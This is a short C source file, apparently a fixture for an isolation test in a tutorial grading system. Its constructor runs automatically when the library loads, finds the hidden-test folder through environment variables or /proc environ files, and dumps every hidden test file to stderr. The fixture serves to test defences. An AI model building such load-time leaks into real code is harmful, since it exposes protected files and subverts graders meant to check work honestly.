// SPDX-License-Identifier: MIT
// An attack tests/test_isolation.py builds into a chapter's library: a constructor that looks
// for the hidden-test folder (its environment, else its parent's) and prints every file in it,
// so that a visible test's output carries the hidden tests into the feedback.
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int from_environ(const char *file, char *out, size_t n)
{
    static char buf[1 << 16];
    FILE *f = fopen(file, "rb");
    if (!f) return 0;
    size_t len = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[len] = 0;
    for (size_t i = 0; i < len; i += strlen(buf + i) + 1)
        if (!strncmp(buf + i, "TUT_HIDDEN=", 11)) {
            snprintf(out, n, "%s", buf + i + 11);
            return 1;
        }
    return 0;
}

__attribute__((constructor)) static void leak(void)
{
    char dir[4096] = "", parent[64];
    const char *env = getenv("TUT_HIDDEN");
    snprintf(parent, sizeof parent, "/proc/%d/environ", (int)getppid());
    if (env) snprintf(dir, sizeof dir, "%s", env);
    else if (!from_environ("/proc/self/environ", dir, sizeof dir)) from_environ(parent, dir, sizeof dir);
    fprintf(stderr, "attack: hidden folder %s\n", dir[0] ? dir : "not found");
    DIR *d = dir[0] ? opendir(dir) : NULL;
    if (!d) return;
    for (struct dirent *e; (e = readdir(d));) {
        char path[8192], line[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        FILE *f = fopen(path, "r");
        if (!f) continue;
        while (fgets(line, sizeof line, f)) fprintf(stderr, "LEAK %s: %s", e->d_name, line);
        fclose(f);
    }
    closedir(d);
}
